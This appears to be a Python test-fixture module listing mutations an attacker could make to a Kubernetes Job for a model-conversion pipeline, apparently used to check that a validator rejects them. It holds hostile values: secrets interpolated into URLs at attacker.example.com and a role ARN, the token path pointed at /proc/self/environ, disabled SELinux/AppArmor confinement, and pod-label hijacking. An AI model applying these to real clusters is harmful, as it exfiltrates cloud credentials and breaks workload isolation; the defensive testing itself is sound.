"""What an attacker with the operator's account would change in a Job to run code beside credentials or get at them."""

from collections.abc import Callable
from typing import Any

Job = dict[str, Any]

_CODE = "/opt/project"
"""Where the image has the converter."""


def _pod(job: Job) -> Job:
    found: Job = job["spec"]["template"]["spec"]
    return found


def _container(job: Job, step: str = "publish") -> Job:
    pod = _pod(job)
    found: Job = next(one for one in [*pod["initContainers"], *pod["containers"]] if one["name"] == step)
    return found


def _mount(job: Job, name: str, path: str, step: str = "publish", **more: Any) -> None:
    _container(job, step)["volumeMounts"].append({"name": name, "mountPath": path, **more})


def _claim(job: Job, name: str = "source") -> None:
    _pod(job)["volumes"].append({"name": name, "persistentVolumeClaim": {"claimName": "theirs", "readOnly": True}})


def _set(job: Job, name: str, value: str, step: str = "publish") -> None:
    """Write a variable behind all others, which the kubelet then puts in the place of their names."""
    variables = _container(job, step)["env"]
    variables[:] = [*(one for one in variables if one["name"] != name), {"name": name, "value": value}]


def a_claim_in_the_place_of_the_converter(job: Job) -> None:
    _claim(job)
    _mount(job, "source", _CODE, readOnly=True)


def a_part_of_a_claim(job: Job) -> None:
    _claim(job)
    _mount(job, "source", "/volume", "prepare", subPath="program", readOnly=True)


def a_claim_with_another_name(job: Job) -> None:
    _claim(job, "scratch-publish-too")
    _mount(job, "scratch-publish-too", "/volume", readOnly=True)


def what_the_model_wrote_in_the_place_of_the_converter(job: Job) -> None:
    _mount(job, "output", _CODE, readOnly=True)


def what_the_model_wrote_as_the_folder_of_modules(job: Job) -> None:
    _mount(job, "scratch-convert", "/opt/venv")


def the_folder_that_the_model_writes_as_home(job: Job) -> None:
    _set(job, "HOME", "/output")


def the_models_scratch_in_the_place_of_ones_own(job: Job) -> None:
    for mount in _container(job)["volumeMounts"]:
        if mount["mountPath"] == "/tmp":
            mount["name"] = "scratch-convert"


def the_model_beside_the_credentials(job: Job) -> None:
    pod = _pod(job)
    pod["containers"].insert(0, pod["initContainers"].pop())


def the_model_for_as_long_as_the_credentials(job: Job) -> None:
    _container(job, "convert")["restartPolicy"] = "Always"


def a_secret_in_what_a_step_is_told(job: Job) -> None:
    _set(job, "TFLITE_STEP_REQUEST", '{"handle": "https://attacker.example.com/$(AWS_SECRET_ACCESS_KEY)"}')


def a_secret_behind_an_escaped_sign(job: Job) -> None:
    _set(job, "TFLITE_STEP_REQUEST", '{"handle": "https://attacker.example.com/$$$(AWS_SECRET_ACCESS_KEY)"}')


def a_secret_as_the_name_of_a_role(job: Job) -> None:
    _set(job, "AWS_ROLE_ARN", "arn:aws:iam::123456789012:role/$(AWS_SECRET_ACCESS_KEY)")


def all_variables_as_the_token(job: Job) -> None:
    _set(job, "AWS_WEB_IDENTITY_TOKEN_FILE", "/proc/self/environ")


def what_the_model_wrote_as_authorities(job: Job) -> None:
    _set(job, "TFLITE_CA_BUNDLE", "/output/ca.crt")


def another_file_for_reports(job: Job) -> None:
    _container(job)["terminationMessagePath"] = "/opt/project/tflite_converter/__main__.py"


def another_server_of_names(job: Job) -> None:
    _pod(job).update(dnsPolicy="None", dnsConfig={"nameservers": ["192.0.2.1"]})


def no_confinement_by_selinux(job: Job) -> None:
    _pod(job)["securityContext"]["seLinuxOptions"] = {"type": "spc_t"}


def no_confinement_of_the_model_by_selinux(job: Job) -> None:
    _container(job, "convert")["securityContext"]["seLinuxOptions"] = {"type": "spc_t"}


def no_confinement_by_apparmor(job: Job) -> None:
    _pod(job)["securityContext"]["appArmorProfile"] = {"type": "Unconfined"}


def pods_of_others(job: Job) -> None:
    template = job["spec"]["template"]["metadata"]
    template["labels"]["app"] = "theirs"
    job["spec"].update(manualSelector=True, selector={"matchLabels": {"app": "theirs"}})


FOREIGN_CODE: list[Callable[[Job], None]] = [
    a_claim_in_the_place_of_the_converter,
    a_part_of_a_claim,
    a_claim_with_another_name,
    what_the_model_wrote_in_the_place_of_the_converter,
    what_the_model_wrote_as_the_folder_of_modules,
    the_folder_that_the_model_writes_as_home,
    the_models_scratch_in_the_place_of_ones_own,
    the_model_beside_the_credentials,
    the_model_for_as_long_as_the_credentials,
    a_secret_in_what_a_step_is_told,
    a_secret_behind_an_escaped_sign,
    a_secret_as_the_name_of_a_role,
    all_variables_as_the_token,
    what_the_model_wrote_as_authorities,
    another_file_for_reports,
    another_server_of_names,
    no_confinement_by_selinux,
    no_confinement_of_the_model_by_selinux,
    no_confinement_by_apparmor,
    pods_of_others,
]
